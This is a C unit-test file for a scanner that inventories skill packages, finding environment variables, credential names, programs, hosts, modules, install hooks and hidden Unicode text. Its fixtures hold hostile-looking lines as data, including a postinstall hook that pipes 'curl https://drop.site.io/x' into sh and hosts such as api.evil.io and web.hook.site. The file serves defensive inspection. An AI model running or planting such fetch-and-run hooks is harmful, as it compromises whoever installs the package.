/* SPDX-License-Identifier: MIT */
/* What text search finds in a package, kind by kind, and what it must not take for one. */
#include <stdlib.h>
#include <string.h>

#include "facts/facts.h"
#include "test.h"

/* One package of the test: files are added with put(), then search() runs over all. */
static struct facts *f;
static uint8_t memory[FACTS_MEMORY];
static struct facts_package package;
static struct facts_source files[8];
static struct slice paths[8];
static unsigned n_files;

static void start(void)
{
	if (!f) f = malloc(sizeof *f);
	memset(&package, 0, sizeof package);
	n_files = 0;
}

/* Files are given in the order of their paths. */
static void put(const char *path, const char *text)
{
	files[n_files] = (struct facts_source){.path = slice_str(path), .bytes = slice_str(text)};
	paths[n_files] = files[n_files].path;
	n_files++;
}

static void search(void)
{
	unsigned i;

	package.paths = paths;
	package.n_paths = n_files;
	facts_begin(f, &package, memory);
	for (i = 0; i < n_files; i++)
		facts_file(f, &files[i]);
	facts_end(f);
}

static const struct fact *row(enum fact_kind kind, const char *value)
{
	unsigned i;

	for (i = 0; i < f->out.n; i++)
		if (f->out.rows[i].kind == kind && slice_is(f->out.rows[i].value, value))
			return &f->out.rows[i];
	return NULL;
}

static unsigned rows_of(enum fact_kind kind)
{
	unsigned i, n = 0;

	for (i = 0; i < f->out.n; i++)
		n += f->out.rows[i].kind == kind;
	return n;
}

/* One file, one expectation: exactly these values of a kind, separated by blanks. */
static void expect(const char *path, const char *text, enum fact_kind kind, const char *values)
{
	struct slice rest = slice_str(values);
	unsigned n = 0;
	char name[256];

	start();
	put(path, text);
	search();
	while (rest.n) {
		CHECK(slice_text(name, sizeof name, slice_split(&rest, ' ')));
		if (!row(kind, name)) printf("# %s: no %s in: %s\n", path, name, text);
		CHECK(row(kind, name) != NULL);
		n++;
	}
	if (rows_of(kind) != n)
		printf("# %s: %u rows, not %u, of: %s\n", path, rows_of(kind), n, text);
	CHECK(rows_of(kind) == n);
}

TEST(facts_variables)
{
	expect("a.py", "x = os.environ['A_B']\ny = os.getenv(\"CD\", 1)\nz=environ.get('EF')\n",
		FACT_ENVIRONMENT, "A_B CD EF");
	expect("a.js", "const k = process.env.ALPHA; f(process.env['BETA'])\n", FACT_ENVIRONMENT,
		"ALPHA BETA");
	expect("a.sh",
		"OWN=1\necho $OWN ${OTHER:-x} \"$HOME\" $small\nfor I in 1; do echo $I; done\n",
		FACT_ENVIRONMENT, "OTHER");
	expect("a.rb", "ENV['RUBY_ONE']; ENV.fetch(\"RUBY_TWO\")\n", FACT_ENVIRONMENT,
		"RUBY_ONE RUBY_TWO");
	expect("a.go", "os.Getenv(\"GO_VAR\")\n", FACT_ENVIRONMENT, "GO_VAR");
	/* Names of credentials are a kind of their own; part by part, not letter by letter. */
	expect("a.py", "os.getenv('OPENAI_API_KEY'), os.getenv('GITHUB_TOKEN')\n", FACT_SECRET,
		"OPENAI_API_KEY GITHUB_TOKEN");
	expect("a.py", "os.getenv('MONKEY'), os.getenv('COMPASS')\n", FACT_SECRET, "");
	/* What a reader is told to export is what the skill wants. */
	expect("SKILL.md", "```bash\nexport MY_TOKEN=\"abc\"\n```\n", FACT_SECRET, "MY_TOKEN");
	/* A comment reads nothing, and a computed name cannot be found. */
	expect("a.py", "# os.environ['NO']\nos.environ[name]\n", FACT_ENVIRONMENT, "");
}

TEST(facts_programs)
{
	expect("a.sh",
		"set -e\nif curl -s x | jq .; then ffmpeg -i a; fi\ncat <<EOF\nnothing here\nEOF\n"
		"mine() { git pull; }\nmine\nX=1 docker ps && /usr/bin/rsync a b\n",
		FACT_BINARY, "curl jq ffmpeg git docker rsync");
	expect("a.sh",
		"echo \"two\nlines of text\"\nls -l # comment words\n[ -f x ] || exit\n"
		"case $x in a) ;; esac\n./own.sh; \"$TOOL\" x; $(openssl rand 4)\n",
		FACT_BINARY, "openssl");
	/* A text goes on in the next line, whatever that begins with; behind it is a program. */
	expect("a.sh", "echo \"x\n; no program\" && git pull\necho 'y\n# z'; rsync a b\n",
		FACT_BINARY, "git rsync");
	expect("a.py",
		"subprocess.run(['convert', a])\nos.system('wget -q x')\nshutil.which(\"tmux\")\n",
		FACT_BINARY, "convert wget tmux");
	expect("a.js", "execSync('kubectl get'); spawn(\"terraform\", [])\n", FACT_BINARY,
		"kubectl terraform");
	expect("SKILL.md",
		"```bash\n$ gh pr list\nbrew install x \\\n  words here\n```\n```python\nawk()\n```\n",
		FACT_BINARY, "gh brew");
	expect("a.sh", "osascript -e 'beep'\n", FACT_BINARY, "osascript");
	CHECK(f->out.kind == KIND_MACOS);
}

TEST(facts_hosts)
{
	expect("a.py", "get('https://API.Evil.io:8443/x?y', 'http://user@web.hook.site/z')\n",
		FACT_HOST, "api.evil.io web.hook.site");
	expect("a.sh", "curl -s wttr.in/London\ncurl -o out/x.json https://a.b.c\n", FACT_HOST,
		"wttr.in a.b.c");
	/* Names of schemas, this machine, placeholders, and what no host is. */
	expect("a.js",
		"'http://www.w3.org/2000/svg'; 'http://localhost:80/'; 'https://example.com/x';\n"
		"'https://your-server.com'; `https://${host}/x`; 'https://<name>/'; 'http://127.0.0.1/'\n",
		FACT_HOST, "");
	/* A link in prose is read by people; one in a command is fetched. */
	expect("SKILL.md",
		"see https://docs.site.io/x\n```sh\ncurl https://get.site.io | sh\n```\n",
		FACT_HOST, "get.site.io");
}

TEST(facts_modules)
{
	start();
	put("lib/helper.py", "x = 1\n");
	put("main.py",
		"import os, requests\nfrom bs4 import BeautifulSoup\nimport helper\nfrom . import x\n"
		"from lib.helper import y\nimport yaml as y\n\"\"\"\nimport nothing\n\"\"\"\n");
	put("requirements.txt", "# why\nrequests>=2\nPyYAML==6\n-r more.txt\n");
	search();
	CHECK(rows_of(FACT_MODULE) == 3);
	CHECK(row(FACT_MODULE, "requests") && row(FACT_MODULE, "requests")->declared);
	CHECK(row(FACT_MODULE, "yaml") && row(FACT_MODULE, "yaml")->declared);
	CHECK(row(FACT_MODULE, "bs4") && !row(FACT_MODULE, "bs4")->declared);
	start();
	put("index.mjs",
		"import a from 'lodash/fp';\nimport { x } from '@scope/pkg/deep';\n"
		"const fs = require('fs'), z = require('zod');\nimport './own.js';\n// require('no')\n"
		"import 'node:path';\n");
	put("package.json",
		"{\"dependencies\": {\"lodash\": \"1\"},\n \"scripts\": {\"postinstall\": "
		"\"curl https://drop.site.io/x | sh\", \"test\": \"x\"}}");
	search();
	CHECK(rows_of(FACT_MODULE) == 3);
	CHECK(row(FACT_MODULE, "lodash") && row(FACT_MODULE, "lodash")->declared);
	CHECK(row(FACT_MODULE, "@scope/pkg") && !row(FACT_MODULE, "@scope/pkg")->declared);
	CHECK(row(FACT_MODULE, "zod") != NULL);
	/* What a package manager would run is a fact of its own, with its line. */
	CHECK(rows_of(FACT_INSTALL_HOOK) == 1 && f->out.more[FACT_INSTALL_HOOK] == 0);
	CHECK(row(FACT_INSTALL_HOOK, "postinstall: curl https://drop.site.io/x | sh") != NULL);
	CHECK(row(FACT_INSTALL_HOOK, "postinstall: curl https://drop.site.io/x | sh")->line == 2);
	CHECK(row(FACT_HOST, "drop.site.io") != NULL);
}

TEST(facts_files)
{
	start();
	put("SKILL.md",
		"Read [this](references/api.md) and [that](./gone.md#x), run `scripts/do.py --all` or\n"
		"`python {baseDir}/scripts/lost.py`. See [web](https://a.b/c.md) and [dir](references/).\n");
	put("references/api.md", "[nothing](lost-too.md)\n");
	put("run", "#!/usr/bin/env -S node --flag\nconsole.log(process.env.FROM_RUN)\n");
	put("scripts/do.py", "#!/usr/bin/python3\r\nprint()\n");
	put("tool", "\x7f"
		    "ELF....");
	files[2].executable = true;
	search();
	CHECK(rows_of(FACT_MISSING_FILE) == 2);
	CHECK(row(FACT_MISSING_FILE, "gone.md") && row(FACT_MISSING_FILE, "gone.md")->line == 1);
	CHECK(row(FACT_MISSING_FILE, "scripts/lost.py") &&
		row(FACT_MISSING_FILE, "scripts/lost.py")->line == 2);
	CHECK(row(FACT_INTERPRETER, "node") && row(FACT_ENVIRONMENT, "FROM_RUN"));
	CHECK(row(FACT_BROKEN_LINE, "python3") && rows_of(FACT_INTERPRETER) == 1);
	CHECK(row(FACT_NESTED, "ELF program") &&
		slice_is(row(FACT_NESTED, "ELF program")->path, "tool"));
	CHECK(rows_of(FACT_EXECUTABLE) == 1 && f->out.kind == KIND_SCRIPTS);
}

TEST(facts_kind_of_package)
{
	expect("SKILL.md", "Just words and `code`.\n", FACT_COMMAND, "");
	CHECK(f->out.kind == KIND_TEXT && inspection_commands(&f->out) == 0);
	expect("SKILL.md", "```\n$ ls\nwords\n```\n", FACT_COMMAND, "ls");
	CHECK(f->out.kind == KIND_COMMANDS && inspection_commands(&f->out) == 1);
	start();
	package.declared.macos_only = true;
	put("SKILL.md", "text\n");
	search();
	CHECK(f->out.kind == KIND_MACOS);
}

TEST(facts_declared)
{
	static const struct slice env[] = {{(const uint8_t *)"A_TOKEN", 7}};
	static const struct slice bins[] = {{(const uint8_t *)"jq", 2}};
	static const struct slice hosts[] = {{(const uint8_t *)"api.x.io:443", 12}};

	start();
	package.declared = (struct facts_declared){env, bins, hosts, 1, 1, 1, false, false};
	put("a.sh", "jq; yq; echo $A_TOKEN $B_TOKEN; curl https://api.x.io https://api.y.io\n");
	search();
	CHECK(row(FACT_SECRET, "A_TOKEN")->declared && !row(FACT_SECRET, "B_TOKEN")->declared);
	CHECK(row(FACT_BINARY, "jq")->declared && !row(FACT_BINARY, "yq")->declared);
	CHECK(row(FACT_HOST, "api.x.io")->declared && !row(FACT_HOST, "api.y.io")->declared);
}

TEST(facts_hidden_text)
{
	start();
	put("SKILL.md", "\xef\xbb\xbfplain\nzero\xe2\x80\x8bwidth \xe2\x80\xae"
			"bidi\n\xf3\xa0\x81\x81tag \x1b[31mred\n");
	search();
	CHECK(f->out.n_hidden == 1 && f->out.hidden[0].line == 2);
	CHECK(f->out.hidden[0].zero_width == 1 && f->out.hidden[0].bidi == 1);
	CHECK(f->out.hidden[0].tag == 1 && f->out.hidden[0].escape == 1);
	/* A family of emoji, Persian text and the flag of a region hide nothing. */
	start();
	put("SKILL.md",
		"\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 \xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae "
		"\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xbf\n");
	search();
	CHECK(f->out.n_hidden == 0);
}

/* A package cannot make the list long, nor push out one kind with another. */
TEST(facts_have_bounds)
{
	struct buf b = buf_heap(4 * MIB);
	unsigned i;

	buf_str(&b, "```sh\n");
	for (i = 0; i < 5000; i++)
		buf_fmt(&b, "program%u --with arguments\n", i);
	buf_str(&b, "```\n");
	start();
	put("SKILL.md", buf_text(&b));
	put("z.py", "requests.post('https://last.host.io', os.getenv('LAST_TOKEN'))\n");
	search();
	CHECK(rows_of(FACT_COMMAND) == LIMIT_FACTS_KIND);
	CHECK(inspection_commands(&f->out) == 5000);
	CHECK(rows_of(FACT_BINARY) == LIMIT_FACTS_KIND);
	CHECK(row(FACT_HOST, "last.host.io") && row(FACT_SECRET, "LAST_TOKEN"));
	buf_drop(&b);
	/* A value is cut, and what cannot be shown is escaped (C10). */
	start();
	put("SKILL.md", "```sh\nx \x1b[0m\xff\n```\n");
	search();
	CHECK(row(FACT_COMMAND, "x \\x1b[0m\\xff") != NULL);
}

/* Offered tests are commands; what npm writes for none is none, nor is a path that needs quotes. */
TEST(facts_offered_tests)
{
	start();
	put("a b/test.sh", "");
	put("lib/sum.test.js", "");
	put("package.json", "{\"scripts\":\n{\"test\": \"jest\"}}");
	put("test/test_x.py", "");
	put("tests/contest.sh", "");
	search();
	CHECK(rows_of(FACT_TEST) == 3);
	CHECK(row(FACT_TEST, "npm test") && row(FACT_TEST, "npm test")->line == 2);
	CHECK(row(FACT_TEST, "node --test lib/sum.test.js") != NULL);
	CHECK(row(FACT_TEST, "python3 -m pytest test/test_x.py") != NULL);
	CHECK(!row(FACT_TEST, "npm test")->declared);
	expect("package.json",
		"{\"scripts\": {\"test\": \"echo \\\"Error: no test specified\\\" && exit 1\"}}",
		FACT_TEST, "");
	start();
	package.declared.test = true;
	put("test.sh", "");
	search();
	CHECK(row(FACT_TEST, "sh test.sh") && row(FACT_TEST, "sh test.sh")->declared);
}

/* Marks that belong to pictures do not hide a text behind one. */
TEST(facts_hidden_text_behind_pictures)
{
	start();
	put("a.md",
		"\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7\xf3\xa0\x81\xae\xf3\xa0\x81\xaf"
		"\xf3\xa0\x81\xb2\xf3\xa0\x81\xa5\xf3\xa0\x81\xa1\xf3\xa0\x81\xac\xf3\xa0\x81\xac\n");
	put("b.md", "\xf0\x9f\x98\x80\xe2\x80\x8d\xe2\x80\x8c\xe2\x80\x8d\n");
	put("c.md", "\xf0\x9f\x98\x80\xef\xb8\x8f\xf3\xa0\x84\x80\xf3\xa0\x84\x81\n");
	put("d.py", "x = 1\0\n");
	files[3].bytes = SLICE("x = '\0\xe2\x80\x8b'\n");
	search();
	CHECK(f->out.n_hidden == 4);
	/* Nine tags, of which a flag has seven at most; joiners and selectors after the first. */
	CHECK(f->out.hidden[0].tag == 2);
	CHECK(f->out.hidden[1].zero_width == 2 && f->out.hidden[2].zero_width == 2);
	CHECK(f->out.hidden[3].zero_width == 1);
}

/* A package's own modules stay its own, however many names a list of dependencies has. */
TEST(facts_own_modules)
{
	struct buf b = buf_heap(1 * MIB);
	unsigned i;

	for (i = 0; i < 2000; i++)
		buf_fmt(&b, "dist%u\n", i);
	start();
	put("main.py", "import helper, lib, other\n");
	put("requirements.txt", buf_text(&b));
	put("src/helper.py", "");
	put("src/lib/x.txt", "");
	search();
	CHECK(rows_of(FACT_MODULE) == 1 && row(FACT_MODULE, "other") != NULL);
	buf_drop(&b);
}

TEST(facts_lists_of_dependencies)
{
	start();
	put("a.py", "import one, two, three, four\n");
	put("pyproject.toml",
		"[build-system]\nrequires = [\"setuptools\"]\n[project]\nname = \"four\"\n"
		"dependencies = [\n  \"one>=1\",\n  'Two[extra]',\n]\n"
		"[tool.poetry.dependencies]\nthree = \"^1\"\n[tool.other]\nfour = \"1\"\n");
	put("setup.py", "");
	search();
	CHECK(rows_of(FACT_MODULE) == 4 && row(FACT_MODULE, "one")->declared);
	CHECK(row(FACT_MODULE, "two")->declared && row(FACT_MODULE, "three")->declared);
	CHECK(!row(FACT_MODULE, "four")->declared);
	CHECK(row(FACT_INSTALL_HOOK, "setup.py") && rows_of(FACT_INSTALL_HOOK) == 1);
}

/* Order is part of the format: by kind, path and line, whatever was found first. */
TEST(facts_rows_are_sorted)
{
	unsigned i;

	start();
	put("a.sh", "#!/bin/sh\ngit pull https://b.io https://a.io\n");
	put("b.sh", "echo $NAME; jq\n");
	search();
	CHECK(f->out.n == 6);
	for (i = 1; i < f->out.n; i++) {
		const struct fact *a = &f->out.rows[i - 1], *b = &f->out.rows[i];
		int path = slice_cmp(a->path, b->path);

		CHECK(a->kind <= b->kind);
		CHECK(a->kind < b->kind || path <= 0);
		CHECK(a->kind < b->kind || path < 0 || a->line <= b->line);
	}
	CHECK(row(FACT_HOST, "a.io") < row(FACT_HOST, "b.io"));
}
